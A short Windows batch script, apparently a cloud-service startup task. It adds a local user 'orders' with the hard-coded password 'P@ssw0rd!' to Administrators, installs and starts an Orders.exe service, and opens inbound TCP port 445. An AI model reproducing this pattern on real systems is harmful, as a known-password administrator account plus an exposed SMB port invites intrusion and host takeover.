@echo off
if "%EMULATED%"=="true" exit /b 0
net user orders P@ssw0rd! /add
net localgroup Administrators orders /add
sc create Orders binPath= "%~dp0Orders.exe"
netsh advfirewall firewall add rule name=Pipes dir=in action=allow protocol=TCP localport=445
net start Orders
exit /b 0
